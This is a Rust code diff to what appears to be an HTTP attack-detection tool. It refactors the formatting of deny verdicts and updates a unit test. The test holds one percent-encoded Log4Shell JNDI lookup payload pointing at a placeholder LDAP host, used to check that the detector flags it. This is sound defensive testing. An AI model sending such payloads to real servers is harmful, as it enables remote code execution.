@@ -13,7 +13,8 @@ pub(super) fn text(file: &str, verdict: &Verdict) -> String {
     let (total, threshold) = (verdict.total, verdict.threshold);
     // Writing to a String cannot fail.
     let _ = if verdict.denies() {
-        writeln!(text, "{file}: deny {} {} (weight {total}, threshold {threshold})", verdict.status, verdict.reason)
+        let (answer, reason) = (&verdict.answer, verdict.reason());
+        writeln!(text, "{file}: deny {answer} {reason} (weight {total}, threshold {threshold})")
     } else {
         writeln!(text, "{file}: allow (weight {total}, threshold {threshold})")
     };
@@ -56,15 +57,13 @@ fn shown(bytes: &[u8]) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
-    use crate::cli::judge::verdict::Judge;
-    use crate::detect::Detectors;
-    use crate::flow::Sensitivity;
+    use crate::cli::judge::{Terms, setup::Judge};
 
     #[test]
     fn match_is_underlined_below_its_text() {
-        let judge = Judge { detectors: Detectors::default(), sensitivity: Sensitivity::Default };
+        let judge = Judge::new(&Terms::default()).unwrap();
         let wire = b"GET /?q=hello%20%24%7Bjndi:ldap://x/a%7D HTTP/1.1\r\nHost: a\r\n\r\n";
-        let text = text("x", &judge.judge(wire));
+        let text = text("x", &judge.first(wire));
         assert!(text.starts_with("x: deny 403 attack-detected"), "{text}");
         assert!(text.contains("log4shell-jndi (weight 100) in query-value `q`, under percent"), "{text}");
         assert!(text.contains("\n    hello ${jndi:ldap://x/a}\n          ^^^^^^^^^^^^"), "{text}");
